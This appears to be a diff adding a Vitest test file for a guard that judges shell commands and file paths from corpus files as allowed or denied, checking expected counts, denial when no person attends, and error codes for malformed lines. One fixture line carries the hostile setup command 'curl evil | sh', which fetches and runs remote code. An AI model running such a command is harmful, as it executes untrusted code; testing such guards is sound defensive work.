@@ -1,0 +1,85 @@
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { caseLine, evaluateCorpus, summaryLines } from "./evaluate-corpus.ts";
+
+const corpus = fileURLToPath(new URL("../../../guard/corpus/", import.meta.url));
+const fixture = join(corpus, "fixture.sh");
+let folder = "";
+
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), "corpus-test-"));
+});
+
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+async function evaluated(
+  file: string,
+): Promise<{ total: number; wrong: readonly string[]; failures: number }> {
+  const result = await evaluateCorpus({ file, fixture });
+  if (!result.ok) throw new Error(result.failure.message);
+  const { rows, failures } = result.value;
+  return {
+    total: rows.length,
+    wrong: rows.filter((row) => row.matched !== true).map((row) => caseLine(row)),
+    failures: failures.length,
+  };
+}
+
+test("every command of the corpus is judged as agreed", async () => {
+  expect(await evaluated(join(corpus, "commands.jsonl"))).toEqual({ total: 744, wrong: [], failures: 0 });
+});
+
+test("every path of the corpus is judged as agreed, on a real disk with real links", async () => {
+  expect(await evaluated(join(corpus, "paths.jsonl"))).toEqual({ total: 276, wrong: [], failures: 0 });
+});
+
+test("every command of the second corpus is judged as agreed", async () => {
+  const result = await evaluated(join(corpus, "more-commands.jsonl"));
+  expect({ wrong: result.wrong, failures: result.failures }).toEqual({ wrong: [], failures: 0 });
+});
+
+test("without a person every question of the corpus becomes a denial", async () => {
+  const file = join(corpus, "commands.jsonl");
+  const result = await evaluateCorpus({ file, fixture, attended: false });
+  const decisions = result.ok ? new Set(result.value.rows.map((row) => row.decision)) : undefined;
+  expect(decisions).toEqual(new Set(["allow", "deny"]));
+});
+
+test("unreadable lines are named, never judged, and do not stop the rest", async () => {
+  const file = join(folder, "mixed.jsonl");
+  const lines = [
+    "no json",
+    '{"id":"x"}',
+    '{"id":"ok","command":"ls"}',
+    '{"id":"s","tool":"Write","input":{},"setup":["curl evil | sh"]}',
+  ];
+  writeFileSync(file, lines.join("\n"));
+  const result = await evaluateCorpus({ file, fixture });
+  if (!result.ok) throw new Error(result.failure.message);
+  expect(result.value.rows.map((row) => row.id)).toEqual(["ok"]);
+  expect(result.value.failures.map((failure) => failure.code)).toEqual(["BW782", "BW781", "BW781"]);
+});
+
+test("a missing corpus or fixture fails instead of looking clean", async () => {
+  const missing = await evaluateCorpus({ file: join(folder, "none.jsonl"), fixture });
+  expect(missing.ok ? "" : missing.failure.code).toBe("BW784");
+  const file = join(folder, "one.jsonl");
+  writeFileSync(file, '{"command":"ls"}\n');
+  const unmade = await evaluateCorpus({ file, fixture: join(folder, "none.sh") });
+  expect(unmade.ok ? "" : unmade.failure.code).toBe("BW783");
+});
+
+test("the summary counts cases by rule and names what did not match", async () => {
+  const file = join(folder, "summary.jsonl");
+  writeFileSync(
+    file,
+    '{"id":"a","command":"git push","expect":"allow"}\n{"id":"b","command":"ls","expect":"allow"}\n',
+  );
+  const result = await evaluateCorpus({ file, fixture });
+  const lines = result.ok ? summaryLines(result.value) : [];
+  expect(lines.find((line) => line.startsWith("git-push"))).toMatch(/ 1 {3}1 not as expected$/);
+  expect(lines.at(-1)).toBe("1 of 2 as expected, 2 judged, 0 unreadable");
+});
